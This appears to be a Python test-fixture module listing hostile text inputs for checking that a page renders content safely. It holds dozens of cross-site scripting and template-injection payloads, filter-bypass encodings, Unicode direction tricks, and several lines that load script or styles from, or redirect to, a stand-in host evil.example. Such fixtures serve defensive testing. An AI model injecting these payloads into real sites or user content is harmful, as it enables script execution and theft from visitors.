"""Texts that try to be more than text: for questions, documents and everything else a page shows."""

from __future__ import annotations

TEXTS: tuple[str, ...] = (
    "<script>window.pwned=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=window.pwned=1>",
    "<img src=\"x\" onerror='window.pwned=1'>", "<svg onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x></svg>", "<iframe src=javascript:window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<a href=javascript:window.pwned=1>点我</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<body onload=window.pwned=1>", "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>", "<video><source onerror=window.pwned=1></video>", "<math><mtext><script>window.pwned=1</script></mtext></math>",
    "<object data=javascript:window.pwned=1></object>", "<embed src=javascript:window.pwned=1>", "<form action=javascript:window.pwned=1><button>x</button></form>",
    "<button formaction=javascript:window.pwned=1>x</button>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<template><script>window.pwned=1</script></template>",
    "<marquee onstart=window.pwned=1>x</marquee>", "</p></section></article><script>window.pwned=1</script>", "\"><script>window.pwned=1</script>",
    "'><img src=x onerror=window.pwned=1>", "\" onmouseover=\"window.pwned=1", "' autofocus onfocus='window.pwned=1", "` onclick=`window.pwned=1",
    "x\" data-clause=\"0000000000000000\" data-do=\"reload", "javascript:window.pwned=1", "<!-- --><script>window.pwned=1</script>", "<![CDATA[<script>1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;window.pwned=1&#60;/script&#62;", "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e", "${window.pwned=1}", "`${window.pwned=1}`", "{{constructor.constructor('window.pwned=1')()}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}", "$$\\href{javascript:window.pwned=1}{x}$$", "[点我](javascript:window.pwned=1)",
    "![x](//evil.example/x.png)", "<scr\x00ipt>window.pwned=1</scr\x00ipt>", "<script\n>window.pwned=1</script\n>", "<ScRiPt >window.pwned=1</sCrIpT >",
    "\u202e<script>1</script>\u202c 倒写", "正常\u2066隐藏\u2069文字\u200b\u200f", "\ufeff<img/src/onerror=window.pwned=1>", "\x1b[31m红\x1b[0m\x07",
    "＜script＞window.pwned=1＜/script＞", "<div style=\"position:fixed;inset:0\">盖住</div>", "<style>@import '//evil.example/x.css';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">", "\ud83d孤立代理\udc00",
)
